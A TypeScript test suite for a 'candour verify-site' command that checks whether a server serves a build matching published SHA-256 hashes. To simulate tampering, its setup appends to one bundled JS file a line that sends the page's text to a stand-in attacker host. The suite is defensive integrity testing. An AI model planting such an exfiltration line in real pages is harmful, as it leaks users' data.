// `candour verify-site` against real servers on 127.0.0.1 serving a real client build: one serves
// the build as built, the other the same build with one file changed after the hashes were taken.
import { cp, readdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import type { FastifyInstance } from 'fastify';
import { build } from 'vite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BUILD_HASHES_FILE, hashBuild, sha256Hex } from '../../client/build/build-hashes.ts';
import type { DatabaseHandle } from '../../server/db/create-database.ts';
import { buildTestApp } from '../server/helpers/app.ts';
import { unreachableDatabase } from '../server/helpers/databases.ts';
import { candour, scratch } from './cli-harness.ts';

let s: Awaited<ReturnType<typeof scratch>>;
let database: DatabaseHandle;
const apps: FastifyInstance[] = [];
let honest: string;
let tampered: string;
let tamperedFile: string;

async function serve(clientDir: string): Promise<string> {
  const { app } = await buildTestApp(database, { clientDir });
  apps.push(app);
  return app.listen({ host: '127.0.0.1', port: 0 });
}

beforeAll(async () => {
  s = await scratch();
  const outDir = s.file('client');
  await build({
    configFile: fileURLToPath(new URL('../../vite.config.ts', import.meta.url)),
    logLevel: 'silent',
    build: { outDir, emptyOutDir: true },
  });
  await cp(outDir, s.file('client-tampered'), { recursive: true });
  const assets = (await readdir(path.join(s.file('client-tampered'), 'assets'))).filter((name) => name.endsWith('.js'));
  tamperedFile = `/assets/${assets[0]!}`;
  const target = path.join(s.file('client-tampered'), tamperedFile);
  // One extra statement at the end: the kind of change an attacker on the server would make.
  await writeFile(target, `${await readFile(target, 'utf8')}\n;fetch('https://attacker.invalid/'+document.body.innerText);\n`);
  database = await unreachableDatabase();
  honest = await serve(outDir);
  tampered = await serve(s.file('client-tampered'));
}, 240_000);

afterAll(async () => {
  for (const app of apps) await app.close();
  await database?.close();
  await s?.remove();
});

describe('the build hash list', () => {
  it('vite build writes build-hashes.json with the SHA-256 of every file it emitted (and not of itself)', async () => {
    const list = JSON.parse(await readFile(s.file(`client/${BUILD_HASHES_FILE}`), 'utf8'));
    expect(list).toMatchObject({ format: 'candour-build-hashes', version: 1, algorithm: 'sha256' });
    expect(list.files['/index.html']).toBe(sha256Hex(await readFile(s.file('client/index.html'))));
    expect(Object.keys(list.files)).not.toContain(`/${BUILD_HASHES_FILE}`);
    expect(Object.keys(list.files).filter((f: string) => f.startsWith('/assets/')).length).toBeGreaterThan(1);
    expect(list).toEqual(await hashBuild(s.file('client')));
  });
});

describe('candour verify-site', () => {
  it('passes for a server serving the published build', async () => {
    const result = await candour(['verify-site', honest, '--hashes', s.file(`client/${BUILD_HASHES_FILE}`)]);
    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
    expect(result.stdout).toMatch(/serves the published build: \d+ files match/);
  });

  it('fails naming the one file that was changed on the server', async () => {
    const result = await candour(['verify-site', tampered, '--hashes', s.file(`client/${BUILD_HASHES_FILE}`)]);
    expect(result.code).toBe(1);
    expect(result.stdout).toContain('does NOT serve the published build');
    const problems = result.stdout.split('\n').filter((line) => line.startsWith('  '));
    expect(problems).toEqual([expect.stringContaining(`${tamperedFile}: DIFFERS`)]);
  });

  it('reports a file the server does not serve, and refuses a malformed hash list', async () => {
    const list = JSON.parse(await readFile(s.file(`client/${BUILD_HASHES_FILE}`), 'utf8'));
    list.files['/assets/removed-from-the-server.js'] = 'a'.repeat(64);
    await writeFile(s.file('extra.json'), JSON.stringify(list));
    const missing = await candour(['verify-site', honest, '--hashes', s.file('extra.json')]);
    expect(missing.code).toBe(1);
    expect(missing.stdout).toContain('/assets/removed-from-the-server.js: missing (not served)');

    await writeFile(s.file('bad.json'), JSON.stringify({ format: 'candour-build-hashes', version: 1, algorithm: 'md5', files: {} }));
    expect(await candour(['verify-site', honest, '--hashes', s.file('bad.json')])).toMatchObject({ code: 1, stderr: expect.stringContaining('not a Candour build hash list') });
    expect(await candour(['verify-site', 'not a url', '--hashes', s.file('bad.json')])).toMatchObject({ code: 2 });
  });
});
